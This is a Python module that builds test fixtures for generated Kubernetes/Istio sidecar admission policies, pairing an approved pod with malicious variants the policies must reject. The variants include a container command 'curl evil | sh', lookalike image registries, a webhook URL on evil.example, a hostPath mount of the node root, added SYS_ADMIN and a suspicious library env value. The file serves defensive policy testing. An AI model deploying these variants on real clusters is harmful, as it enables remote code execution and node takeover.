"""Engine-neutral test cases for the generated policies, built from the plan.

For each rule in a plan: a benign near-miss that must pass and malicious
variants that must fail, all derived from the plan's own parameters so that
any spec gets fixtures that mean something. Every backend renders these into
its engine's own test format (src_test.rego, gator suites, kyverno-test.yaml).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from typing import Any

from .plan import Plan
from .quantity import parse_quantity

UNTRUSTED = {"username": "policygen:untrusted-user", "groups": []}
FAKE_DIGEST = "sha256:" + "e" * 64


@dataclass(frozen=True)
class Case:
    name: str  # snake_case, unique within a rule
    rule_id: str
    resource: dict[str, Any]  # a plain resource or an AdmissionReview
    fails: bool
    namespaces: dict[str, Any] = field(default_factory=dict)  # inventory: name -> Namespace

    @property
    def is_admission_review(self) -> bool:
        return self.resource.get("kind") == "AdmissionReview"

    @property
    def object(self) -> dict[str, Any]:
        if self.is_admission_review:
            req = self.resource["request"]
            return req.get("object") or req.get("oldObject")
        return self.resource


MESH_FALLBACK_NAMESPACE = "policygen-mesh"


def mesh_namespace(plan: Plan) -> tuple[str, dict[str, str] | None]:
    """A namespace the plan treats as mesh, and the labels its Namespace needs (None: listed by name)."""
    scope = next((r.params["scope"] for r in plan.rules if "scope" in r.params), None)
    if scope is None:
        return "default", None
    listed = [n for n in scope["meshNamespaces"] if n not in scope["excludedNamespaces"]]
    # Fixtures must show each rule firing: a namespace an exception covers would hide it.
    excepted = {n for e in plan.exceptions if not e.objects.names and not e.objects.labels for n in e.objects.namespaces}
    listed = [n for n in listed if n not in excepted] or listed
    if listed:
        return listed[0], None
    labels = dict(scope["meshNamespaceSelector"]["matchLabels"])
    for req in scope["meshNamespaceSelector"]["matchExpressions"]:
        if req["operator"] == "In":
            labels[req["key"]] = req["values"][0]
        elif req["operator"] == "Exists":
            labels.setdefault(req["key"], "policygen")
    return MESH_FALLBACK_NAMESPACE, labels


def _mesh_namespace(plan: Plan) -> tuple[str, dict[str, Any]]:
    """The mesh namespace and the inventory (name -> Namespace) that makes it one."""
    name, labels = mesh_namespace(plan)
    if labels is None:
        return name, {}
    return name, {name: {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}}}


def sidecar_image(plan: Plan) -> str:
    """An image every image rule of the plan approves."""
    sc001 = plan.rule("SC001")
    repo = sc001.params["repositories"][0] if sc001 else "docker.io/istio/proxyv2"
    sc002 = plan.rule("SC002")
    digest = FAKE_DIGEST
    tag = "1.0.0"
    if sc002:
        if sc002.params["digests"]:
            digest = sc002.params["digests"][0]
        while tag in sc002.params["forbiddenTags"]:
            tag += "-ok"
    return f"{repo}:{tag}@{digest}"


def _param_for(plan: Plan, rule_id: str, name: str) -> dict[str, Any] | None:
    rule = plan.rule(rule_id)
    if rule is None:
        return None
    return next((s for s in rule.params["sidecars"] if s["name"] == name), None)


def sidecar_container(plan: Plan, name: str) -> dict[str, Any]:
    """The approved sidecar called name, as the plan describes it."""
    container: dict[str, Any] = {"name": name, "image": sidecar_image(plan)}
    sc4 = _param_for(plan, "SC004", name)
    if sc4:
        sc = {e["key"]: e["value"] for e in sc4["expected"]}
        if sc4["checkCapabilities"]:
            sc["capabilities"] = {"drop": list(sc4["mustDrop"]), "add": list(sc4["mayAdd"])}
        container["securityContext"] = sc
    sc5 = _param_for(plan, "SC005", name)
    if sc5:
        if sc5["checkArgs"]:
            container["args"] = [*sc5["argsPrefix"], "--log_output_level=default:info"]
        if sc5["pinnedEnv"]:
            container["env"] = [{"name": e["name"], "value": e["value"]} for e in sc5["pinnedEnv"]]
    sc6 = _param_for(plan, "SC006", name)
    if sc6 and sc6["allowed"]:
        container["volumeMounts"] = [{"name": sc6["allowed"][0], "mountPath": "/etc/istio/proxy"}]
    sc7 = _param_for(plan, "SC007", name)
    limits = {"cpu": "500m", "memory": "256Mi"}
    requests = {"cpu": "100m", "memory": "128Mi"}
    if sc7:
        for bound in sc7["maxLimits"]:
            limits[bound["resource"]] = bound["max"]
        for bound in sc7["maxRequests"]:
            requests[bound["resource"]] = bound["max"]
        for resource in ("cpu", "memory"):
            # A request above its limit is invalid in Kubernetes; keep it within both maxima.
            if parse_quantity(requests[resource]) > parse_quantity(limits[resource]):
                requests[resource] = limits[resource]
    container["resources"] = {"limits": limits, "requests": requests}
    return container


def _app_uid(plan: Plan) -> int:
    sc10 = plan.rule("SC010")
    forbidden = set(sc10.params["forbiddenRunAsUsers"]) | set(sc10.params["forbiddenRunAsGroups"]) if sc10 else set()
    uid = 1000
    while uid in forbidden:
        uid += 1
    return uid


def baseline_pod(plan: Plan) -> tuple[dict[str, Any], dict[str, Any]]:
    """A Pod every pod rule of the plan allows, and the inventory it needs."""
    ns, inventory = _mesh_namespace(plan)
    sc003 = plan.rule("SC003")
    sidecars = sc003.params["sidecars"] if sc003 else []
    uid = _app_uid(plan)
    spec: dict[str, Any] = {
        "containers": [{
            "name": "app",
            "image": "registry.example.com/shop/app:2.1.0",
            "securityContext": {"runAsUser": uid, "runAsGroup": uid, "runAsNonRoot": True},
        }],
    }
    status = {"initContainers": [], "containers": []}
    for sidecar in sidecars:
        field_name = "containers" if "containers" in sidecar["placement"] else sidecar["placement"][0]
        spec.setdefault(field_name, []).append(sidecar_container(plan, sidecar["name"]))
        if field_name in status:
            status[field_name].append(sidecar["name"])
    volumes = sorted({m["name"] for fld in ("containers", "initContainers") for c in spec.get(fld, []) for m in c.get("volumeMounts", [])})
    if volumes:
        spec["volumes"] = [{"name": v, "emptyDir": {}} for v in volumes]
    annotations: dict[str, str] = {}
    labels: dict[str, str] = {"app": "shop"}
    if sidecars:
        annotations["sidecar.istio.io/status"] = json.dumps(status, separators=(",", ":"))
    sc008 = plan.rule("SC008")
    if sc008:
        for allowed in sc008.params["allowedValues"]:
            annotations[allowed["key"]] = allowed["values"][0]
    sc009 = plan.rule("SC009")
    if sc009 and sc009.params["approvedRevisions"]:
        labels["istio.io/rev"] = sc009.params["approvedRevisions"][0]
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "shop", "namespace": ns, "labels": labels, "annotations": annotations},
        "spec": spec,
    }
    return pod, inventory


def _sidecar_path(pod: dict[str, Any], name: str) -> dict[str, Any]:
    for fld in ("containers", "initContainers", "ephemeralContainers"):
        for c in pod["spec"].get(fld, []):
            if c["name"] == name:
                return c
    raise KeyError(name)


def _review(obj: dict[str, Any], operation: str, username: str) -> dict[str, Any]:
    req: dict[str, Any] = {
        "uid": "00000000-0000-0000-0000-000000000000",
        "operation": operation,
        "userInfo": {"username": username, "groups": ["system:authenticated"]},
        "namespace": obj.get("metadata", {}).get("namespace", ""),
        "kind": {"group": "", "version": "v1", "kind": obj["kind"]},
    }
    req["oldObject" if operation == "DELETE" else "object"] = obj
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": req}


def _flip(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1 if value == 0 else 0
    return "changed"


def cases_for(plan: Plan) -> list[Case]:
    base, inv = baseline_pod(plan)
    cases: list[Case] = []

    def pod_case(rule_id: str, name: str, fails: bool, mutate) -> None:
        pod = copy.deepcopy(base)
        mutate(pod)
        cases.append(Case(name, rule_id, pod, fails, inv))

    for rule in plan.rules:
        rid, p = rule.rule_id, rule.params
        if rid.startswith("SC") and rid != "SC012":
            pod_case(rid, "approved_pod", False, lambda pod: None)
        if rid == "SC001":
            name = p["sidecarNames"][0]
            repo = p["repositories"][0]
            digest = sidecar_image(plan).split("@")[1]
            registry, _, path = repo.partition("/")
            pod_case(rid, "lookalike_registry", True,
                     lambda pod: _sidecar_path(pod, name).update(image=f"{registry}.evil.example/{path}@{digest}"))
            pod_case(rid, "registry_as_path", True,
                     lambda pod: _sidecar_path(pod, name).update(image=f"evil.example/{repo}@{digest}"))
            pod_case(rid, "unparseable_image", True, lambda pod: _sidecar_path(pod, name).update(image="Not An Image"))
        elif rid == "SC002":
            name = p["sidecarNames"][0]
            repo = plan.rule("SC001").params["repositories"][0]
            if p["requireDigest"]:
                pod_case(rid, "no_digest", True, lambda pod: _sidecar_path(pod, name).update(image=f"{repo}:1.0.0"))
            if p["digests"]:
                pod_case(rid, "unapproved_digest", True,
                         lambda pod: _sidecar_path(pod, name).update(image=f"{repo}@sha256:{'f' * 64}"))
            for tag in p["forbiddenTags"][:1]:
                digest = sidecar_image(plan).split("@")[1]
                pod_case(rid, "forbidden_tag", True,
                         lambda pod: _sidecar_path(pod, name).update(image=f"{repo}:{tag}@{digest}"))
        elif rid == "SC003":
            image = sidecar_image(plan)
            if p["sidecarRepositories"]:
                pod_case(rid, "sidecar_image_renamed", True,
                         lambda pod: pod["spec"]["containers"].append({"name": "debug", "image": image}))
            pod_case(rid, "unapproved_native_sidecar", True, lambda pod: pod["spec"].setdefault("initContainers", []).append(
                {"name": "shadow", "image": "registry.example.com/tools/shadow:1", "restartPolicy": "Always"}))
            pod_case(rid, "status_lists_unapproved", True, lambda pod: pod["metadata"]["annotations"].update(
                {"sidecar.istio.io/status": '{"initContainers":null,"containers":["evil-proxy"]}'}))
            pod_case(rid, "containers_null", True, lambda pod: pod["spec"].update(initContainers=None))
            if p["sidecars"]:
                side = p["sidecars"][0]["name"]
                if "ephemeralContainers" not in p["sidecars"][0]["placement"]:
                    pod_case(rid, "sidecar_as_ephemeral", True, lambda pod: pod["spec"].setdefault("ephemeralContainers", []).append(
                        copy.deepcopy(_sidecar_path(base, side))))
        elif rid == "SC004":
            side = p["sidecars"][0]
            name = side["name"]
            if side["expected"]:
                key, value = side["expected"][0]["key"], side["expected"][0]["value"]
                pod_case(rid, f"{key.lower()}_changed", True,
                         lambda pod: _sidecar_path(pod, name)["securityContext"].update({key: _flip(value)}))
            pod_case(rid, "no_security_context", True, lambda pod: _sidecar_path(pod, name).pop("securityContext"))
            if side["checkCapabilities"]:
                pod_case(rid, "adds_sys_admin", True, lambda pod: _sidecar_path(pod, name)["securityContext"]["capabilities"]["add"].append("SYS_ADMIN"))
        elif rid == "SC005":
            side = p["sidecars"][0]
            name = side["name"]
            if side["forbidCommand"]:
                pod_case(rid, "command_override", True, lambda pod: _sidecar_path(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
            if side["checkArgs"] and side["argsPrefix"]:
                pod_case(rid, "args_replaced", True, lambda pod: _sidecar_path(pod, name).update(args=["--evil"]))
            if side["pinnedEnv"]:
                pod_case(rid, "pinned_env_changed", True,
                         lambda pod: _sidecar_path(pod, name)["env"][0].update(value="evil.example:15012"))
            if side["forbiddenEnv"]:
                var = side["forbiddenEnv"][0]
                pod_case(rid, "forbidden_env", True,
                         lambda pod: _sidecar_path(pod, name).setdefault("env", []).append({"name": var, "value": "/tmp/x.so"}))
        elif rid == "SC006":
            name = p["sidecars"][0]["name"]
            pod_case(rid, "host_path_mount", True, lambda pod: (
                pod["spec"].setdefault("volumes", []).append({"name": "host-root", "hostPath": {"path": "/"}}),
                _sidecar_path(pod, name).setdefault("volumeMounts", []).append({"name": "host-root", "mountPath": "/host"}),
            ))
        elif rid == "SC007":
            side = p["sidecars"][0]
            name = side["name"]
            if side["requireLimits"]:
                pod_case(rid, "no_limits", True, lambda pod: _sidecar_path(pod, name)["resources"].pop("limits"))
                pod_case(rid, "zero_cpu_limit", True, lambda pod: _sidecar_path(pod, name)["resources"]["limits"].update(cpu="0"))
            for bound in side["maxLimits"][:2]:
                over = "100" if bound["resource"] == "cpu" else "1Ti"
                pod_case(rid, f"{bound['resource']}_limit_too_high", True,
                         lambda pod, r=bound["resource"], o=over: _sidecar_path(pod, name)["resources"]["limits"].update({r: o}))
        elif rid == "SC008":
            for key in p["forbidden"][:1]:
                pod_case(rid, "forbidden_annotation", True, lambda pod: pod["metadata"]["annotations"].update({key: "evil"}))
            for allowed in p["allowedValues"][:1]:
                pod_case(rid, "unapproved_value", True, lambda pod: pod["metadata"]["annotations"].update({allowed["key"]: "evil"}))
        elif rid == "SC009":
            if p["forbidOptOut"]:
                pod_case(rid, "inject_true_label", False, lambda pod: pod["metadata"]["labels"].update({"sidecar.istio.io/inject": "true"}))
                pod_case(rid, "inject_capital_true", True, lambda pod: pod["metadata"]["labels"].update({"sidecar.istio.io/inject": "True"}))
                pod_case(rid, "inject_false_annotation", True, lambda pod: pod["metadata"]["annotations"].update({"sidecar.istio.io/inject": "false"}))
            if p["approvedRevisions"]:
                pod_case(rid, "unapproved_revision", True, lambda pod: pod["metadata"]["labels"].update({"istio.io/rev": "canary-evil"}))
            if p["requireSidecar"]:
                side = p["sidecarName"]
                pod_case(rid, "no_sidecar", True, lambda pod: [
                    pod["spec"].update({f: [c for c in pod["spec"].get(f, []) if c["name"] != side]}) for f in ("containers", "initContainers")
                ])
        elif rid == "SC010":
            if p["forbiddenRunAsUsers"]:
                uid = p["forbiddenRunAsUsers"][0]
                pod_case(rid, "pod_level_proxy_uid", True, lambda pod: (
                    pod["spec"].update(securityContext={"runAsUser": uid}),
                    pod["spec"]["containers"][0]["securityContext"].pop("runAsUser"),
                ))
            if p["forbiddenCapabilities"]:
                cap = p["forbiddenCapabilities"][0]
                pod_case(rid, "app_adds_capability", True, lambda pod: pod["spec"]["containers"][0]["securityContext"].update(
                    capabilities={"add": [f"CAP_{cap}"]}))
            if p["forbidPrivileged"]:
                pod_case(rid, "privileged_app", True, lambda pod: pod["spec"]["containers"][0]["securityContext"].update(privileged=True))
        elif rid == "SC011":
            for fld in p["forbiddenFields"]:
                pod_case(rid, f"{fld.lower()}_true", True, lambda pod, f=fld: pod["spec"].update({f: True}))
            pod_case(rid, f"{p['forbiddenFields'][0].lower()}_false", False,
                     lambda pod: pod["spec"].update({p["forbiddenFields"][0]: False}))
        elif rid == "CP001":
            svc = p["service"]
            good = {
                "apiVersion": "admissionregistration.k8s.io/v1",
                "kind": "MutatingWebhookConfiguration",
                "metadata": {"name": p["namePrefixes"][0]},
                "webhooks": [{
                    "name": "sidecar-injector.istio.io",
                    "clientConfig": {"service": dict(svc)},
                    "failurePolicy": p["failurePolicy"],
                    "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                    # Required by the API server, so that the fixture also proves the rule in real admission.
                    "sideEffects": "None",
                    "admissionReviewVersions": ["v1"],
                }],
            }
            cases.append(Case("approved_injector", rid, good, False))
            bad = copy.deepcopy(good)
            bad["webhooks"][0]["clientConfig"] = {"url": "https://evil.example/inject"}
            cases.append(Case("injector_to_url", rid, bad, True))
            other = copy.deepcopy(good)
            other["metadata"]["name"] = "shadow-injector"
            cases.append(Case("untrusted_pod_mutator", rid, other, True))
            if p["trustedSubjects"]:
                cases.append(Case("trusted_pod_mutator", rid, _review(other, "CREATE", p["trustedSubjects"][0]), False))
        elif rid == "CP002":
            cm = {"apiVersion": "v1", "kind": "ConfigMap",
                  "metadata": {"name": p["configMaps"][0], "namespace": p["namespace"]}, "data": {"config": "policy: enabled"}}
            cases.append(Case("untrusted_update", rid, _review(cm, "UPDATE", UNTRUSTED["username"]), True))
            cases.append(Case("untrusted_delete", rid, _review(cm, "DELETE", UNTRUSTED["username"]), True))
            if p["trustedSubjects"]:
                cases.append(Case("trusted_update", rid, _review(cm, "UPDATE", p["trustedSubjects"][0]), False))
            other = copy.deepcopy(cm)
            other["metadata"]["name"] = "app-settings"
            cases.append(Case("other_configmap", rid, other, False))
        elif rid == "CP003":
            def pa(ns, mode, selector=None, ports=None):
                spec: dict[str, Any] = {"mtls": {"mode": mode}}
                if selector:
                    spec["selector"] = {"matchLabels": selector}
                if ports:
                    spec["portLevelMtls"] = ports
                return {"apiVersion": "security.istio.io/v1", "kind": "PeerAuthentication",
                        "metadata": {"name": "default", "namespace": ns}, "spec": spec}
            cases.append(Case("mesh_wide_strict", rid, pa(p["namespace"], "STRICT"), False))
            cases.append(Case("mesh_wide_unset", rid, pa(p["namespace"], "UNSET"), True))
            cases.append(Case("workload_unset", rid, pa("shop", "UNSET", {"app": "shop"}), False))
            cases.append(Case("permissive", rid, pa("shop", "PERMISSIVE"), True))
            cases.append(Case("port_disable", rid, pa("shop", "STRICT", {"app": "shop"}, {"8080": {"mode": "DISABLE"}}), True))
        elif rid == "CP004":
            def ns_obj(name, labels):
                return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}}
            if p["meshNamespaces"]:
                mesh = p["meshNamespaces"][0]
                cases.append(Case("mesh_enabled", rid, ns_obj(mesh, {"istio-injection": "enabled"}), False))
                cases.append(Case("mesh_unlabelled", rid, ns_obj(mesh, {}), True))
                cases.append(Case("mesh_disabled_with_revision", rid, ns_obj(mesh, {
                    "istio-injection": "disabled", "istio.io/rev": (p["approvedRevisions"] or ["default"])[0]}), True))
            if p["excludedNamespaces"]:
                excl = p["excludedNamespaces"][0]
                cases.append(Case("excluded_plain", rid, ns_obj(excl, {}), False))
                cases.append(Case("excluded_with_revision", rid, ns_obj(excl, {"istio.io/rev": "default"}), True))
        elif rid == "CP005":
            def role(name, verbs):
                return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": name},
                        "rules": [{"apiGroups": ["admissionregistration.k8s.io"], "resources": ["mutatingwebhookconfigurations"],
                                   "verbs": verbs}]}
            cases.append(Case("untrusted_writer", rid, role("webhook-editor", ["get", "patch"]), True))
            cases.append(Case("untrusted_reader", rid, role("webhook-viewer", ["get", "list", "watch"]), False))
            if p["trustedRoles"]:
                cases.append(Case("trusted_writer", rid, role(p["trustedRoles"][0], ["*"]), False))
    return cases
